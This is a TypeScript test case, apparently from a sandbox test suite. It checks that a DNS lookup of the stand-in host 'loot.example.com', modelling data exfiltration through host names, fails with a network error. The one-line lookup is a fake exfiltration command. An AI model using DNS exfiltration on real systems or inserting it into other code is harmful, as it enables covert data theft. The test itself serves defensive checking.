import type { HostileTest } from '../hostile-case.js';

export const resolvesName: HostileTest = {
  as: 'test',
  name: 'carries data out in the name of a host',
  means: 'DNS',
  verdict: /EAI_AGAIN|ENOTFOUND|ECONNREFUSED/,
  code: () => `await dns.promises.lookup('loot.example.com');`,
};
